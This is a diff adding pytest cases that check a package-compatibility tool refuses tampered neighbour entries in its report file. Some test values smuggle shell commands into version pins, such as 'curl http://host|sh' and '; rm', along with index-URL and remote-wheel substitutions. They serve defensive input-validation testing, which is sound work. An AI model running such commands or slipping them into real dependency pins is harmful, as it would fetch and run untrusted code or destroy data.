@@ -176,3 +176,75 @@ def test_the_file_of_another_compat(tmp_path: Path) -> None:
 def test_a_lock_that_is_no_digest(tmp_path: Path, lock: str) -> None:
     told = "combinations.0.lock: String should match pattern '^[0-9a-f]{64}$'; `compat report` writes the file anew"
     assert refusal(tmp_path, lambda own, near: own.update(lock=lock)).endswith(f"{FILE}: {told}")
+
+
+def near(**changed: Any) -> Change:
+    """Another neighbour."""
+    return lambda own, near: near["combination"].update(changed)
+
+
+def pins(**changed: str) -> Change:
+    return lambda own, near: near["combination"]["packages"].update(changed)
+
+
+INDEX = "--index-url http://host"
+NEIGHBOUR = json.loads(NEAR)[0]["combination"]["id"]
+
+
+@pytest.mark.parametrize(
+    ("change", "told"),
+    [
+        (pins(peft="0.17.0; curl http://host|sh #"), "peft: 0.17.0; curl http://host|sh # is no version"),
+        (pins(peft="0.17.0\n"), "peft: '0.17.0\\n' is no version"),
+        (
+            pins(peft="https://host/peft-1.0-py3-none-any.whl"),
+            "peft: https://host/peft-1.0-py3-none-any.whl is no version",
+        ),
+        (pins(**{INDEX: "1"}), f"{INDEX} is no package that a search moves"),
+        (lambda own, near: near["combination"]["packages"].pop("peft"), "no version of peft"),
+        (near(python="3.11; rm"), f"python: not as in {ID}"),
+        (near(companions=["a @ https://host/a-1.0.zip"]), f"companions: not as in {ID}"),
+        (near(forced={"peft": "1.0"}), f"forced: not as in {ID}"),
+        (near(torch="2.0"), f"torch: not as in {ID}"),
+        (near(exclude_newer=None), f"exclude_newer: not as in {ID}"),
+        (near(probes=["import-torch"]), f"probes: not as in {ID}"),
+        (near(suites=["nope"]), f"suites: not as in {ID}"),
+        (near(suites=[]), f"suites: not as in {ID}"),
+    ],
+)
+def test_a_neighbour_that_no_search_leaves(tmp_path: Path, change: Change, told: str) -> None:
+    assert refusal(tmp_path, change) == f"{FILE}: {NEIGHBOUR}: {told}; write the file anew"
+
+
+@pytest.mark.parametrize("id_", ["else", f"{ID}+a\nb", f"{ID}+{'1' * 500}"])
+def test_a_neighbour_with_an_id_of_something_else(tmp_path: Path, id_: str) -> None:
+    told = refusal(tmp_path, near(id=id_))
+    assert (told.count("\n"), told.endswith(f" is no id of a neighbour of {ID}; write the file anew")) == (0, True)
+
+
+@pytest.mark.parametrize("words", ["", "peft", "peft 1.0; rm", "peft 1.0, nothing 2.0"])
+def test_what_was_passed_over_are_pins(tmp_path: Path, words: str) -> None:
+    def change(own: dict[str, Any], near: dict[str, Any]) -> None:
+        near["nearer"] = ["peft 0.8.2, transformers 4.40.0", words]
+
+    assert refusal(tmp_path, change) == f"{FILE}: {ID}: {words} names no pins; write the file anew"
+
+
+@pytest.mark.parametrize(
+    ("tried", "names"),
+    [(-5, 0), (True, 0), ("5", 0), (1.0, 0), (10**400, 0), (10**4000, 0), (0, 2), (1, 2)],
+    ids=["negative", "bool", "text", "float", "huge", "of thousands of digits", "none of two", "one of two"],
+)
+def test_a_search_that_cannot_have_been(tmp_path: Path, tried: Any, names: int) -> None:
+    search = {"tried": tried, "inconclusive": ["peft 0.8.2", "peft 0.9.0"][:names]}
+    told = refusal(tmp_path, lambda own, near: own.update(search=search))
+    where = (
+        f"{FILE}: {ID}: search: more were inconclusive than tried" if names else "combinations.0.search.tried: Input"
+    )
+    assert (where in told, told.count("\n"), len(told) < 300) == (True, 0, True)
+
+
+@pytest.mark.parametrize("distance", [[-1, 1], [1, 10**400], [True, 1], ["1", 1], [1], [1, 1, 1]])
+def test_a_distance_that_is_none(tmp_path: Path, distance: list[Any]) -> None:
+    told = refusal(tmp_path, lambda own, near: near.update(distance=distance))
+    assert ("neighbours.0.distance" in told, told.count("\n"), len(told) < 300) == (True, 0, True)
